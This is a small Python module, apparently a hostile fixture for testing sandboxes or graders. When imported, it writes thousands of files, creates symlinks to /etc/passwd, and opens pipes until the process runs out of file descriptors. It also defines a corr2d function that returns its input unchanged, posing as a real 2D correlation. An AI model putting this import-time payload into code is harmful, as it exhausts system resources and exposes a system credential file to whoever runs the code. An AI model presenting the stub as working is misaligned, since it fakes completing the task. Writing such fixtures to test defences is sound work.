"""Makes files, links, FIFOs and descriptors by the thousand at import."""
import os

for number in range(20_000):
    try:
        open(f"file-{number}", "w").close()
        os.symlink("/etc/passwd", f"link-{number}")
    except OSError:
        break
held = []
try:
    while True:
        held.append(os.pipe())
except OSError:
    pass


def corr2d(x, k):
    return x
